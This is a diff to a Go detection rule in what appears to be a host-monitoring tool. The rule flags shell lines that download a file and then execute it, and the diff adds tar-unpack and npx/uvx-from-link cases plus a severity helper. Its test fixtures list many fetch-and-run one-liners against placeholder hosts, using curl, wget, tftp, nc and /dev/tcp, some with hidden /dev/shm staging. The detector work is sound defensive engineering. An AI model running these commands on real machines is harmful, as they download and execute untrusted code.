@@ -11,14 +11,14 @@ import (
 )
 
 var runFetch = Detector{
-	ID: "run.fetch", Level: coi.Warning, Wants: execs,
+	ID: "run.fetch", Level: coi.High, Wants: execs,
 	Title:  "download executed",
 	Why:    "a file that a downloader wrote moments ago is run",
 	Detect: fetchRun,
 	Fire: append(lines(coi.Warning,
 		"curl -o /tmp/a https://example.com/a && chmod +x /tmp/a && /tmp/a", "wget https://example.com/x.sh; bash x.sh", "curl -sO https://example.com/atomic.sh; chmod +x atomic.sh | bash atomic.sh",
-		"wget -q https://example.com/s -O /tmp/s; chmod +x /tmp/s; /tmp/s --go", "curl https://example.com/p.py > p.py; python3 p.py", "pip install http://203.0.113.7/evil.tar.gz", "wget -q http://203.0.113.7/a.sh -P /tmp && bash /tmp/a.sh", "tftp -g -r bot 203.0.113.7 && chmod +x bot && ./bot", "scp u@203.0.113.7:/t/i /tmp/i && chmod +x /tmp/i && /tmp/i", "nc 203.0.113.7 80 > /tmp/q && sh /tmp/q", "aria2c -d /tmp -o x http://203.0.113.7/x && sh /tmp/x", "tftp 203.0.113.7 -c get x /tmp/x; sh /tmp/x", "whois -h 203.0.113.7 -p 8443 x > /tmp/x.out", "exec 3<>/dev/tcp/203.0.113.7/80; cat <&3 > /tmp/x; chmod +x /tmp/x; /tmp/x",
-	), Sample{Level: coi.Warning, Events: []event.Event{
+		"wget -q https://example.com/s -O /tmp/s; chmod +x /tmp/s; /tmp/s --go", "curl https://example.com/p.py > p.py; python3 p.py", "pip install http://203.0.113.7/evil.tar.gz", "npx https://example.com/pkg.tgz", "wget -q http://203.0.113.7/a.sh -P /tmp && bash /tmp/a.sh", "tftp -g -r bot 203.0.113.7 && chmod +x bot && ./bot", "scp u@203.0.113.7:/t/i /tmp/i && chmod +x /tmp/i && /tmp/i", "nc 203.0.113.7 80 > /tmp/q && sh /tmp/q", "aria2c -d /tmp -o x http://203.0.113.7/x && sh /tmp/x", "tftp 203.0.113.7 -c get x /tmp/x; sh /tmp/x", "whois -h 203.0.113.7 -p 8443 x > /tmp/x.out", "exec 3<>/dev/tcp/203.0.113.7/80; cat <&3 > /tmp/x; chmod +x /tmp/x; /tmp/x",
+	), Sample{Level: coi.High, Line: "wget http://203.0.113.7/x86 -O /tmp/.x; chmod 777 /tmp/.x; /tmp/.x"}, Sample{Level: coi.High, Line: "curl http://203.0.113.7/a.tgz | tar xz -C /dev/shm && /dev/shm/a/run"}, Sample{Level: coi.High, Line: "curl http://203.0.113.7/b -o /dev/shm/b && chmod +x /dev/shm/b && nohup /dev/shm/b &"}, Sample{Level: coi.Warning, Events: []event.Event{
 		{Type: event.Exec, PID: 5, PPID: 1, Exe: "/usr/bin/bash", Argv: []string{"bash"}},
 		{Type: event.Exec, PID: 6, PPID: 5, Exe: "/usr/bin/curl", Argv: []string{"curl", "-o", "/tmp/z", "https://example.com/z"}},
 		{Type: event.Write, PID: 6, Path: "/tmp/z", Op: "write"},
@@ -39,22 +39,45 @@ func fetchRun(ev event.Event, v track.View) []Finding {
 	}
 	for _, s := range c.Simples {
 		if h := strangePackage(s); h != "" {
-			return one(*say(s, coi.Warning, "package installed from a bare address").to(h))
+			return one(*say(s, coi.Warning, "package taken from a link").to(h))
 		}
 	}
-	got := map[string]bool{}
+	got := map[string]*command.Simple{}
+	var dir string
+	var unpacked *command.Simple
 	for _, s := range c.Simples {
 		if s.Is("whois", "finger") && whoisFile(s) {
 			return one(*say(s, coi.Warning, "file fetched by "+s.Name).to(outHost(s)))
 		}
-		if p := ranFile(s); p != "" && got[p] {
-			return one(*say(s, coi.Warning, "file fetched in the same line is run").at(p, command.Exec))
+		p := ranFile(s)
+		if unpacked != nil && strings.HasPrefix(p, dir+"/") && fetchLevel(unpacked, p) == coi.High {
+			return one(*say(s, coi.High, "file fetched in the same line is run").at(p, command.Exec))
+		}
+		if d, from := unpackedTo(s); from != nil {
+			dir, unpacked = d, from
+		}
+		if got[p] != nil {
+			return one(*say(s, fetchLevel(got[p], p), "file fetched in the same line is run").at(p, command.Exec))
 		}
 		for _, p := range fetchedFiles(s) {
-			got[p] = true
+			if p != "" {
+				got[p] = s
+			}
 		}
 	}
 	return nil
+}
+
+// fetchLevel is high when nobody stands behind the source and the file is put
+// where nobody looks.
+func fetchLevel(d *command.Simple, file string) coi.Level {
+	hidden := strings.HasPrefix(base(file), ".") || hasPrefixAny(file, "/tmp/", "/var/tmp/", "/dev/shm/", "/run/")
+	for _, h := range d.Hosts() {
+		if hidden && d.Class() == program.Downloader && !command.Loopback(h) && (bareAddress(h) || dropHost(h)) {
+			return coi.High
+		}
+	}
+	return coi.Warning
 }
 
 // fetchedFiles are the files a downloader leaves behind.
@@ -108,14 +131,33 @@ func fetchedFiles(s *command.Simple) []string {
 	return out
 }
 
+// unpackedTo is the folder into which a download is unpacked that is piped into
+// tar, and the downloader.
+func unpackedTo(s *command.Simple) (string, *command.Simple) {
+	if s.Name != "tar" {
+		return "", nil
+	}
+	dir := s.CWD
+	if v := s.Parsed().Values("C", "directory"); len(v) > 0 {
+		dir = s.Abs(v[0])
+	}
+	for _, d := range s.Stdin {
+		if d.Class() == program.Downloader {
+			return dir, d
+		}
+	}
+	return "", nil
+}
+
 // strangePackage is the host of a package that comes from a bare address or
 // over plain http, by link and not by name; "" when there is none.
 func strangePackage(s *command.Simple) string {
-	if s.Class() != program.Package || !s.Arg("install", "add", "i") {
+	runs := s.Is("npx", "bunx", "uvx")
+	if s.Class() != program.Package || !runs && !s.Arg("install", "add", "i") {
 		return ""
 	}
 	for i, a := range s.Argv {
-		if h := command.HostOf(a); h != "" && i > 0 && !strings.HasPrefix(a, "-") && !strings.HasPrefix(s.Argv[i-1], "-") && !command.Loopback(h) && badSource(h, a) {
+		if h := command.HostOf(a); h != "" && i > 0 && !strings.HasPrefix(a, "-") && !strings.HasPrefix(s.Argv[i-1], "-") && !command.Loopback(h) && (runs && strings.HasSuffix(a, "gz") || badSource(h, a)) {
 			return h
 		}
 	}
